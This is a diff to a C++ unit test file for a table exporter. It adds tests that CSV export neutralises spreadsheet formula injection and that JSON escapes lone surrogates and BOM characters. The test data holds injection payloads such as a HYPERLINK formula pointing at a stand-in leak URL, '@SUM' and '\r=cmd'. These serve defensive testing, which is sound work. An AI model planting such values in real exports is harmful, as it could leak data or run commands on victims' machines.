@@ -1,4 +1,5 @@
 // SPDX-License-Identifier: GPL-3.0-or-later
+#include "DataWriter.h"
 #include "FrameworkModel.h"
 #include "TableExporter.h"
 #include "TestData.h"
@@ -345,7 +346,7 @@ DataSet hostileDataSet()
     a.name = u"A|B \\ C"_s;
     a.developer = u"line one\nline two\r\nline three"_s;
     a.license = u"say \"hi\", then *go*"_s;
-    a.ratings.insert(u"speed"_s, Rating{2, QString(), {}});
+    a.ratings.insert(u"speed"_s, Rating{2, QString(), {}, {}});
     Framework b;
     b.id = u"b"_s;
     b.name = u"<b>bold</b> [link](x) trailing\\"_s;
@@ -383,6 +384,8 @@ private slots:
     // Each format's own promises
     void csvIsRfc4180();
     void csvRoundTripsScores();
+    void csvCellsAreInert();
+    void jsonEscapesAsDataFiles();
     void markdownLayout();
     void markdownEscapesPipes();
     void htmlDocument();
@@ -670,6 +673,63 @@ void TestTableExporter::csvIsRfc4180()
     QVERIFY(hostile.contains(",\"line one\nline two\r\nline three\","));
     QVERIFY(hostile.contains(",\"say \"\"hi\"\", then *go*\","));
     QVERIFY(parseCsv(hostile).has_value());
+}
+
+// A cell that starts like a formula is made text with a leading apostrophe, as spreadsheets
+// mark such text; numbers (scores, years, a negative one too) stay numbers.
+void TestTableExporter::csvCellsAreInert()
+{
+    DataSet data;
+    data.metrics << Metric{u"speed"_s, u"@SUM(A1:A9)"_s, QString(), {u"Slow"_s, u"Fast"_s}, {}};
+    Framework link;
+    link.id = u"link"_s;
+    link.name = u"=HYPERLINK(\"http://example.com/?leak\", \"Click\")"_s;
+    link.developer = u"+1 and more"_s;
+    link.license = u"\tTAB"_s;
+    link.firstRelease = -1;
+    link.ratings.insert(u"speed"_s, Rating{2, QString(), {}, {}});
+    Framework dash;
+    dash.id = u"dash"_s;
+    dash.name = u"-dash"_s;
+    dash.developer = u"\r=cmd"_s;
+    dash.license = u"plain = text"_s;
+    data.frameworks << link << dash;
+    model.setDataSet(data);
+    const std::optional<Grid> records = parseCsv(TableExporter::toBytes(model, Format::Csv));
+    QVERIFY(records);
+    const auto row = [&](const QString &first) {
+        for (const QStringList &record : *records)
+            if (record.first() == first)
+                return record;
+        return QStringList();
+    };
+    QCOMPARE(records->first().at(1), u"'=HYPERLINK(\"http://example.com/?leak\", \"Click\")"_s);
+    QCOMPARE(records->first().at(2),
+             u"'=HYPERLINK(\"http://example.com/?leak\", \"Click\") score"_s);
+    QCOMPARE(records->first().at(3), u"'-dash"_s);
+    const QStringList speed = row(u"'@SUM(A1:A9)"_s);
+    QCOMPARE(speed, QStringList({u"'@SUM(A1:A9)"_s, u"Fast"_s, u"2"_s, u"Not rated"_s, QString()}));
+    QCOMPARE(row(u"Developer"_s).mid(1),
+             QStringList({u"'+1 and more"_s, QString(), u"'\r=cmd"_s, QString()}));
+    QCOMPARE(row(u"License"_s).mid(1),
+             QStringList({u"'\tTAB"_s, QString(), u"plain = text"_s, QString()}));
+    QCOMPARE(row(u"First release"_s).at(1), u"-1"_s); // a number, not a formula
+}
+
+// The table's JSON and a data file escape text alike (JsonWriter): half a surrogate pair and
+// U+FEFF as \uXXXX escapes, not as bytes that are no UTF-8 or an invisible mark.
+void TestTableExporter::jsonEscapesAsDataFiles()
+{
+    DataSet data = hostileDataSet();
+    const QString name = u"a"_s + QChar(0xD800) + u"b"_s + QChar(0xFEFF) + u"c\u0001"_s;
+    data.frameworks[0].name = name;
+    model.setDataSet(data);
+    const QByteArray table = TableExporter::toBytes(model, Format::Json);
+    const QByteArray file = DataWriter::toJson(data);
+    const QByteArray escaped = R"("a\uD800b\uFEFFc\u0001")";
+    QVERIFY2(table.contains(escaped), table.constData());
+    QVERIFY(file.contains(escaped));
+    QVERIFY(!table.contains("\xEF\xBB\xBF"));
 }
 
 void TestTableExporter::csvRoundTripsScores()
